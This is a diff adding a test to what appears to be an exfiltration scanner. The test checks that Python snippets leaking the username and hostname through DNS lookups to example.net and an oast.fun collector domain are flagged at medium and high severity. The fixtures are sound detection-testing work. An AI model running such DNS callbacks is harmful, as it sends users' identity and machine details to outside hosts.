@@ -392,3 +392,15 @@ test('an IPv4 address spelt as one number, in hex or octal, or under a wildcard-
   assert.equal(kindOf('http://2130706433/x'), undefined);
   assert.equal(kindOf('http://api.example.com/x'), undefined);
 });
+
+test("the user's identity as a DNS label is a callback even when called; under a collector's domain it is high", () => {
+  const sent = (call: string) =>
+    findings(`import socket, os, getpass, dns.resolver\ndef probe():\n    ${call}\n`).find(
+      (f) => f.rule === 'exfiltration',
+    );
+  const label = sent('dns.resolver.resolve(getpass.getuser() + ".c.example.net", "A")');
+  assert.equal(label?.severity, 'medium');
+  const collector = sent('socket.getaddrinfo("%s.%s.oast.fun" % (os.getlogin(), socket.gethostname()), 80)');
+  assert.equal(collector?.destination?.kind, 'tunnel-or-oast');
+  assert.equal(collector?.severity, 'high');
+});
